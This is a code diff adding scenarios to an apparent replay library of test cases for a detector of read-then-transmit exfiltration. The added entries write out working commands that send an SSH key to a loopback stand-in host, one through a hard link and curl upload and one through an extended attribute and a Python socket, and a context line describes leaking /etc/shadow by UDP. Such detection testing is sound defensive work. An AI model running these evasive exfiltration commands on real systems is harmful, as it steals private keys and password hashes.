@@ -113,6 +113,20 @@ export const REPLAY_LIBRARY: readonly ReplayScenario[] = [
     script: (w) => procMemScenario(w.sshKey, w.tcpPort),
   },
   {
+    name: 'hardlink-key',
+    what: 'the ssh key hard-linked to an ordinary name (never opened by its own) and uploaded by curl from there',
+    mustYield: ['exfil.read-then-transmit'],
+    script: (w) => `ln ${w.sshKey} ${w.dir}/notes-link.txt && curl -s -m 10 -T ${w.dir}/notes-link.txt http://127.0.0.2:${w.httpPort}/ -o /dev/null`,
+  },
+  {
+    name: 'xattr-stage-key',
+    what: 'one process puts the ssh key in an extended attribute of an ordinary file; another takes it out and sends it',
+    mustYield: ['exfil.read-then-transmit'],
+    script: (w) =>
+      `python3 -c 'import os; os.setxattr("${w.notes}", "user.a", open("${w.sshKey}", "rb").read())' && ` +
+      `python3 -c 'import os, socket; d = os.getxattr("${w.notes}", "user.a"); s = socket.create_connection(("127.0.0.2", ${w.tcpPort})); s.sendall(d); s.close()'`,
+  },
+  {
     name: 'udp-leak-shadow',
     what: 'part of /etc/shadow, hex-encoded as a DNS-style name, in one UDP datagram to 127.0.0.2:5353',
     mustYield: ['exfil.read-then-transmit'],
